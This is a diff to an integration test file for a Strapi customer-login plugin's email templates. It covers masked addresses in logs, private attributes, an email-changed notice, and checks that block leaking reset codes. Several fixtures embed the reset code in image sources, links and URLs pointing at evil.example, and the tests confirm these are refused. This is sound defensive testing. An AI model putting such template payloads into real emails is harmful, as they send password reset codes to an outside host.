@@ -1,6 +1,7 @@
 import type { EmailTemplate, EmailTemplatesSettings } from '../../shared/contracts/email-templates';
 import {
   createCustomer,
+  createLoginCustomer,
   type CustomerInput,
   login,
   passwordIn,
@@ -8,6 +9,7 @@ import {
   uniqueEmail,
 } from '../helpers/api';
 import { createAdminWithRoles, createRole, findRoleId } from '../helpers/admins';
+import type { MailerService } from '../../server/src/services/mailer';
 import { expectNoSecretsLeaked } from '../helpers/leaks';
 import { startTestApp, SUPER_ADMIN, type TestApp } from '../helpers/strapi';
 
@@ -47,6 +49,33 @@ const testEmail = (body: unknown, token: string | null = app.adminToken) =>
     .send(body as object);
 
 const settings = async () => (await getTemplates()).body.data as EmailTemplatesSettings;
+
+/** Writes the plugin store directly, as a version saved before today's checks would be. */
+const storeTemplates = (value: unknown) =>
+  app.strapi
+    .store({ type: 'plugin', name: 'customer-login', key: 'email-templates' })
+    .set({ value });
+
+/** Asks for a password reset as the customer does, and waits for the email it sends. */
+const requestReset = async (email: string) => {
+  const before = app.smtp.mailsTo(email).length;
+  await app.http().post('/api/customer-login/auth/forgot-password').send({ email }).expect(200);
+  const deadline = Date.now() + 10_000;
+  while (app.smtp.mailsTo(email).length === before) {
+    if (Date.now() > deadline) throw new Error(`no mail to ${email}`);
+    await new Promise((resolve) => setTimeout(resolve, 25));
+  }
+  return app.smtp.mailsTo(email).at(-1)!;
+};
+
+/** Waits until a line logged after `from` matches (background work logs after answering). */
+const waitForLog = async (from: number, pattern: RegExp) => {
+  const deadline = Date.now() + 10_000;
+  while (!app.logs.slice(from).some((line) => pattern.test(line))) {
+    if (Date.now() > deadline) throw new Error(`nothing logged matches ${pattern}`);
+    await new Promise((resolve) => setTimeout(resolve, 25));
+  }
+};
 
 /** A customer saved with "Generate and send credentials", as the Login section does. */
 const customerWithCredentials = async (overrides: CustomerInput = {}) => {
@@ -92,6 +121,7 @@ describe('GET /customer-login/email-templates', () => {
       'emailConfirmation',
       'passwordReset',
       'passwordChanged',
+      'emailChanged',
     ]);
     const credentials = data.emails.credentials;
     expect(credentials.templates.en).toMatchObject({
@@ -118,6 +148,14 @@ describe('GET /customer-login/email-templates', () => {
     expect(data.emails.passwordReset.variables).toEqual(
       expect.arrayContaining(['resetUrl', 'code'])
     );
+    expect(data.emails.emailChanged.variables).toEqual(
+      expect.arrayContaining(['email', 'newEmail', 'loginUrl', 'customer.firstName'])
+    );
+    expect(data.emails.emailChanged.variables).not.toContain('password');
+    expect(data.emails.emailChanged.templates.fr).toMatchObject({
+      subject: 'Votre adresse e-mail a été modifiée',
+      customized: false,
+    });
   });
 });
 
@@ -290,13 +328,28 @@ describe('sending', () => {
     await putTemplates({ emailConfirmation: { es: null } }).expect(200);
   });
 
+  test('each change of a saved version is what the next email carries, down to one part', async () => {
+    const template = { subject: 'Changed', text: 'Your password was changed.' };
+    try {
+      for (const html of ['<p>First version</p>', '<p>Second version</p>']) {
+        await putTemplates({ passwordChanged: { en: { ...template, html } } }).expect(200);
+        const { email, documentId } = await createLoginCustomer(app, 'versions-1');
+        const mailer = app.strapi.plugin('customer-login').service('mailer') as MailerService;
+
+        await mailer.sendPasswordChangedNotice(email, documentId);
+
+        expect(app.smtp.mailsTo(email).at(-1)?.html).toBe(html);
+      }
+    } finally {
+      await putTemplates({ passwordChanged: { en: null } }).expect(200);
+    }
+  });
+
   test('a saved version that stopped rendering is logged, and the default goes out instead', async () => {
     // As if the customer type had lost a field the saved version shows.
-    await app.strapi.store({ type: 'plugin', name: 'customer-login', key: 'email-templates' }).set({
-      value: {
-        credentials: {
-          en: { subject: 'Hi <%= customer.nickname %>', html: 'x', text: 'x' },
-        },
+    await storeTemplates({
+      credentials: {
+        en: { subject: 'Hi <%= customer.nickname %>', html: 'x', text: 'x' },
       },
     });
     try {
@@ -304,11 +357,333 @@ describe('sending', () => {
 
       expect(mail.subject).toBe('Your login details');
       expect(app.logs.join('\n')).toMatch(
-        /the saved credentials email in "en" no longer renders \(Line 1: unknown variable "customer\.nickname"/
+        /the saved credentials email in "en" does not pass the template checks \(subject line 1\); the default is sent/
       );
+      // The log names the place, never the template's text.
+      expect(app.logs.filter((line) => line.includes('nickname'))).toEqual([]);
     } finally {
       await putTemplates({ credentials: { en: null } }).expect(200);
     }
+  });
+
+  test('a failed send logs the email, the masked recipient and the reason, never the subject or body', async () => {
+    await putTemplates({
+      credentials: {
+        en: {
+          subject: 'Welcome aboard, <%= customer.firstName %>',
+          html: '<p>Password: <%= password %></p>',
+          text: 'Password: <%= password %>',
+        },
+      },
+    }).expect(200);
+    const { email: resetEmail } = await createLoginCustomer(app, 'refused-reset-1');
+    const email = uniqueEmail('refused');
+    const logged = app.logs.length;
+    app.smtp.rejectAll = true;
+    try {
+      const res = await createCustomer(app, {
+        firstName: 'Ines',
+        email,
+        loginEnabled: true,
+        emailConfirmed: true,
+        sendCredentials: true,
+      });
+      expect(res.status).toBe(400);
+      // A customer's own request fails the same way, after its answer.
+      await app
+        .http()
+        .post('/api/customer-login/auth/forgot-password')
+        .send({ email: resetEmail })
+        .expect(200);
+      await waitForLog(logged, /the passwordReset email to/);
+    } finally {
+      app.smtp.rejectAll = false;
+      await putTemplates({ credentials: { en: null } }).expect(200);
+    }
+
+    const lines = app.logs.slice(logged);
+    expect(lines.filter((line) => line.includes('could not be sent'))).toEqual([
+      expect.stringMatching(
+        /customer-login: the credentials email to r\*\*\*@shop\.test could not be sent: .*Mailbox unavailable/
+      ),
+      expect.stringMatching(
+        /customer-login: the passwordReset email to c\*\*\*@shop\.test could not be sent: .*Mailbox unavailable/
+      ),
+    ]);
+    for (const text of [
+      'Welcome aboard',
+      'Ines',
+      'Password:',
+      'Reset your password',
+      email,
+      resetEmail,
+    ]) {
+      expect({ text, lines: lines.filter((line) => line.includes(text)) }).toEqual({
+        text,
+        lines: [],
+      });
+    }
+  });
+});
+
+describe('secrets stay in the body', () => {
+  const RESET: EmailTemplate = {
+    subject: 'Reset your password',
+    html: '<p>Your code:<br>\n<b><%= code %></b></p>',
+    text: 'Your code:\n<%= code %>\n',
+  };
+
+  test.each([
+    [
+      'in the subject',
+      { subject: 'Your code <%= code %>' },
+      'subject',
+      /^Line 1: <%= code %> holds a secret and cannot be in the subject, .* Put it in the body\.$/,
+    ],
+    [
+      "in an image's address",
+      { html: '<p>Hi</p>\n<img src="https://evil.example/p.gif?c=<%= code %>">' },
+      'html',
+      /^Line 2: <%= code %> holds a secret and cannot stand in the src attribute of <img>: .* Move it out of the attribute\.$/,
+    ],
+    [
+      "in another site's link",
+      { html: '<a href="https://evil.example/?c=<%= code %>">Reset</a>' },
+      'html',
+      /^Line 1: <%= code %> holds a secret and cannot stand in the href attribute of <a>/,
+    ],
+    [
+      'glued to a web address in the text',
+      { text: 'Reset at https://evil.example/?c=<%= code %>' },
+      'text',
+      /^Line 1: <%= code %> holds a secret and is glued to "=" before it, .* Put a space or a line break between them\.$/,
+    ],
+  ])(
+    'a secret %s is refused at save, naming the part and the line',
+    async (_case, change, part, message) => {
+      const res = await putTemplates({ passwordReset: { en: { ...RESET, ...change } } });
+
+      expect(res.status).toBe(400);
+      expect(res.body).toMatchObject({
+        data: null,
+        error: {
+          status: 400,
+          name: 'ValidationError',
+          details: {
+            errors: [
+              { path: ['passwordReset', 'en', part], message: expect.stringMatching(message) },
+            ],
+          },
+        },
+      });
+      expect((await settings()).emails.passwordReset.templates.en.customized).toBe(false);
+    }
+  );
+
+  test('a secret as text or as the whole address of a link is saved, and sent', async () => {
+    const res = await putTemplates({
+      passwordReset: {
+        en: {
+          ...RESET,
+          html: '<p>Code: (<%= code %>).</p><% if resetUrl %><a href="<%= resetUrl %>">Reset</a><% end %>',
+        },
+      },
+    });
+    try {
+      expect(res.status).toBe(200);
+      const { email } = await createLoginCustomer(app, 'secret-text-1');
+      const mail = await requestReset(email);
+      const code = resetCodeIn(mail)!;
+      expect(mail.html).toContain(`<p>Code: (${code}).</p>`);
+      expect(mail.text).toBe(`Your code:\n${code}\n`);
+    } finally {
+      await putTemplates({ passwordReset: { en: null } }).expect(200);
+    }
+  });
+
+  test('preview and test email refuse such a template the same way, and send nothing', async () => {
+    const body = {
+      email: 'passwordReset',
+      locale: 'en',
+      template: { ...RESET, html: '<img src="https://evil.example/p.gif?c=<%= code %>">' },
+    };
+    const before = app.smtp.mails.length;
+
+    for (const res of [await preview(body), await testEmail(body)]) {
+      expect(res.status).toBe(400);
+      expect(res.body.error.details.errors).toEqual([
+        expect.objectContaining({
+          path: ['template', 'html'],
+          message: expect.stringMatching(/<%= code %> holds a secret and cannot stand in the src/),
+        }),
+      ]);
+    }
+    expect(app.smtp.mails).toHaveLength(before);
+  });
+
+  test('a version saved before this check is not sent: the default goes out, and the log shows none of it', async () => {
+    await storeTemplates({
+      passwordReset: {
+        en: {
+          subject: 'Your code <%= code %>',
+          html: '<img src="https://evil.example/p.gif?c=<%= code %>">',
+          text: 'https://evil.example/?c=<%= code %>',
+        },
+      },
+    });
+    const logged = app.logs.length;
+    try {
+      const { email } = await createLoginCustomer(app, 'saved-before-1');
+      const mail = await requestReset(email);
+
+      expect(mail.subject).toBe('Reset your password');
+      expect(`${mail.html}${mail.text}`).not.toContain('evil.example');
+      expect(app.logs.slice(logged).join('\n')).toMatch(
+        /the saved passwordReset email in "en" does not pass the template checks \(subject line 1, html line 1, text line 1\)/
+      );
+      for (const text of ['evil.example', 'Your code', '<%']) {
+        expect(app.logs.slice(logged).filter((line) => line.includes(text))).toEqual([]);
+      }
+    } finally {
+      await putTemplates({ passwordReset: { en: null } }).expect(200);
+    }
+  });
+});
+
+describe("the customer type's private attributes", () => {
+  const NOTE = 'Internal note: difficult customer, 8c1f';
+
+  test('a field in options.privateAttributes is offered by no email, while public fields are', async () => {
+    const data = await settings();
+
+    for (const email of Object.keys(data.emails) as Array<keyof typeof data.emails>) {
+      expect(data.emails[email].variables).toContain('customer.lastName');
+      expect(data.emails[email].variables).not.toContain('customer.internalNote');
+    }
+  });
+
+  test('a template showing it is refused at save as an unknown variable', async () => {
+    const res = await putTemplates({
+      passwordChanged: {
+        en: { subject: 'x', html: '<p><%= customer.internalNote %></p>', text: 'x' },
+      },
+    });
+
+    expect(res.status).toBe(400);
+    expect(res.body.error.details.errors).toEqual([
+      expect.objectContaining({
+        path: ['passwordChanged', 'en', 'html'],
+        message: expect.stringMatching(/^Line 1: unknown variable "customer\.internalNote"/),
+      }),
+    ]);
+  });
+
+  test('a saved version showing it sends the default, and the note reaches no email', async () => {
+    await storeTemplates({
+      credentials: {
+        en: {
+          subject: 'Hello',
+          html: '<p><%= customer.internalNote %></p>',
+          text: 'Note: <%= customer.internalNote %>\nPassword: <%= password %>',
+        },
+      },
+    });
+    try {
+      const { mail } = await customerWithCredentials({ internalNote: NOTE });
+
+      expect(mail.subject).toBe('Your login details');
+      expect(`${mail.subject}${mail.html}${mail.text}`).not.toContain('8c1f');
+    } finally {
+      await putTemplates({ credentials: { en: null } }).expect(200);
+    }
+  });
+});
+
+describe('the email-changed notice', () => {
+  const mailer = () => app.strapi.plugin('customer-login').service('mailer') as MailerService;
+
+  test("goes to the old address in the customer's language, naming the new one masked", async () => {
+    const { email, documentId } = await createLoginCustomer(app, 'email-changed-1', {
+      language: 'it',
+    });
+    const before = app.smtp.mailsTo(email).length;
+
+    await mailer().sendEmailChangedNotice({
+      to: email,
+      documentId,
+      newEmail: 'giulia.nuova@shop.test',
+    });
+
+    const mails = app.smtp.mailsTo(email);
+    expect(mails).toHaveLength(before + 1);
+    const mail = mails.at(-1)!;
+    expect(mail.subject).toBe('Il tuo indirizzo email è stato cambiato');
+    expect(mail.text).toContain(
+      "l'indirizzo email del tuo account è stato cambiato in g***@shop.test."
+    );
+    expect(mail.html).toContain('g***@shop.test');
+    expect(`${mail.subject}${mail.html}${mail.text}`).not.toContain('giulia.nuova');
+    expect(app.smtp.mailsTo('giulia.nuova@shop.test')).toEqual([]);
+  });
+
+  test("an admin's version shows the customer's address masked too, whatever the row holds", async () => {
+    await putTemplates({
+      emailChanged: {
+        en: {
+          subject: 'Address changed',
+          html: '<p><%= customer.email %> / <%= newEmail %> / <%= email %></p>',
+          text: '<%= customer.email %> / <%= newEmail %> / <%= email %>',
+        },
+      },
+    }).expect(200);
+    try {
+      const { email, documentId } = await createLoginCustomer(app, 'email-changed-2');
+
+      await mailer().sendEmailChangedNotice({ to: email, documentId, newEmail: 'new@shop.test' });
+
+      expect(app.smtp.mailsTo(email).at(-1)?.text).toBe(
+        `n***@shop.test / n***@shop.test / ${email}`
+      );
+    } finally {
+      await putTemplates({ emailChanged: { en: null } }).expect(200);
+    }
+  });
+
+  test('a mailbox that no longer exists is logged, masked, and not thrown', async () => {
+    const { email, documentId } = await createLoginCustomer(app, 'email-changed-3');
+    app.smtp.rejectAddresses.add(email.toLowerCase());
+    const logged = app.logs.length;
+    try {
+      await expect(
+        mailer().sendEmailChangedNotice({ to: email, documentId, newEmail: 'new@shop.test' })
+      ).resolves.toBeUndefined();
+    } finally {
+      app.smtp.rejectAddresses.delete(email.toLowerCase());
+    }
+
+    const lines = app.logs.slice(logged);
+    expect(lines.filter((line) => line.includes('could not be sent'))).toEqual([
+      expect.stringMatching(
+        /customer-login: the emailChanged email to c\*\*\*@shop\.test could not be sent: .*Mailbox unavailable/
+      ),
+    ]);
+    expect(lines.filter((line) => line.includes(email) || line.includes('new@shop.test'))).toEqual(
+      []
+    );
+  });
+
+  test('the preview shows a sample new address, masked', async () => {
+    const res = await preview({
+      email: 'emailChanged',
+      locale: 'de',
+      template: (await settings()).emails.emailChanged.templates.de.default,
+    });
+
+    expect(res.status).toBe(200);
+    expect(res.body.data.subject).toBe('Ihre E-Mail-Adresse wurde geändert');
+    expect(res.body.data.text).toContain(
+      'die E-Mail-Adresse Ihres Kontos wurde in j***@example.com geändert.'
+    );
   });
 });
 
